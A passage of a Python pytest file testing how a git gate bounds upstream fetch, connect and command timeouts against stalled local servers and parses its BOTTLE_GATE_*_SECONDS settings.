        free = s.clone('f', 'unhurried', tmp_path / 'unhurried')
        urls = {name: (partial if name == names[0] else stalled).url(name) for name in names}
        for name in names:
            s.set_upstream('f', name, urls[name])

        fetches = {name: in_background(lambda name=name: s.guest('f', works[name], 'fetch', '-q')) for name in names}
        deadline = time.monotonic() + 60
        while stalled.open() + partial.open() < len(names) and time.monotonic() < deadline:
            time.sleep(0.05)
        fetched = s.guest('f', free, 'fetch', '-q')
        assert fetched.returncode == 0, fetched.stderr
        assert all(thread.is_alive() for thread, _ in fetches.values())

        for name, (thread, result) in fetches.items():
            thread.join(timeout=120)
            assert result and result[0].returncode != 0
            assert (f'remote: gate: {urls[name]} stopped answering: git fetch {urls[name]} got nothing from it for '
                    '10 s') in result[0].stderr, result[0].stderr
        assert stalled.wait_closed() and partial.wait_closed()
        assert not processes_naming(f'127.0.0.1:{stalled.port}') and not processes_naming(f'127.0.0.1:{partial.port}')
    finally:
        partial.close()


def bounded_env(home, **seconds) -> dict[str, str]:
    """The environment of the gate's upstream commands, with bounds of `seconds` (connect=2: ...)."""
    return upstream.host_env({'PATH': os.environ['PATH'], 'HOME': str(home), 'GIT_CONFIG_NOSYSTEM': '1',
                              **{f'BOTTLE_GATE_{name.upper()}_SECONDS': str(value) for name, value in seconds.items()}})


def test_a_command_past_its_deadline_ends_with_all_it_started(tmp_path):
    """A TLS handshake that never completes is no stall for git (it has no connect timeout for https): the
    deadline ends the command, and with it git's remote helper, which holds the connection."""
    stalled = Stalled()
    try:
        url = stalled.url('handshake', scheme='https')
        with pytest.raises(upstream.UpstreamTimeout) as ended:
            upstream.tips(url, 'refs/heads/main', bounded_env(tmp_path, command=2))
        assert str(ended.value).startswith(f'git ls-remote {url} did not finish within 2 s, the git gate\'s bound '
                                           'for one command against an upstream (BOTTLE_GATE_COMMAND_SECONDS)')
        assert stalled.connections == 1 and stalled.wait_closed()
        assert not processes_naming(f'127.0.0.1:{stalled.port}')
    finally:
        stalled.close()


def test_an_ssh_upstream_gets_a_connect_bound_unless_the_host_chose_its_ssh_command(tmp_path):
    stalled = Stalled()
    try:
        url = f'ssh://git@127.0.0.1:{stalled.port}/x.git'
        with pytest.raises(upstream.UpstreamTimeout) as ended:
            upstream.tips(url, 'refs/heads/main', bounded_env(tmp_path, connect=2))
        assert str(ended.value).startswith(f'{url} did not answer: git ls-remote {url} could not connect and begin '
                                           'within 2 s (the git gate\'s bound, BOTTLE_GATE_CONNECT_SECONDS)')
        assert 'banner exchange' in str(ended.value) and stalled.wait_closed()

        # The host's own ssh command, from its gitconfig or its environment, runs as the host set it.
        record = tmp_path / 'ssh-args'
        own = tmp_path / 'own-ssh'
        own.write_text(f'#!/bin/sh\necho "$@" >> {record}\nexit 1\n')
        own.chmod(0o755)
        (tmp_path / '.gitconfig').write_text(f'[core]\n\tsshCommand = {own}\n')
        for env in (bounded_env(tmp_path), {**bounded_env(tmp_path / 'elsewhere'), 'GIT_SSH_COMMAND': str(own)},
                    {**bounded_env(tmp_path / 'elsewhere'), 'GIT_SSH': str(own)}):
            with pytest.raises(upstream.UpstreamError) as failed:
                upstream.tips(url, 'refs/heads/main', env)
            assert not isinstance(failed.value, upstream.UpstreamTimeout)
        used = record.read_text().splitlines()
        assert len(used) == 3 and not any('ConnectTimeout' in line for line in used), used
    finally:
        stalled.close()


def test_the_bounds_are_read_from_the_gates_environment_and_restart_it_when_changed(tmp_path):
    assert upstream.Bounds.from_env({}) == upstream.Bounds(connect=15, stall=30, command=300, busy=60)
    assert upstream.Bounds.from_env({'BOTTLE_GATE_STALL_SECONDS': '2.5'}).stall == 2.5
    for wrong in ('soon', '0', '-1', 'inf', 'nan'):
        with pytest.raises(upstream.UpstreamError, match=f"BOTTLE_GATE_BUSY_SECONDS='{wrong}' in the git gate's "
                                                          'environment is not a number of seconds above 0'):
            upstream.Bounds.from_env({'BOTTLE_GATE_BUSY_SECONDS': wrong})
    started = {GitGate(tmp_path, env={'HOME': str(tmp_path), **more}).daemon().config
               for more in ({}, {'BOTTLE_GATE_STALL_SECONDS': '5'}, {'BOTTLE_GATE_STALL_SECONDS': '6'})}
    assert len(started) == 3
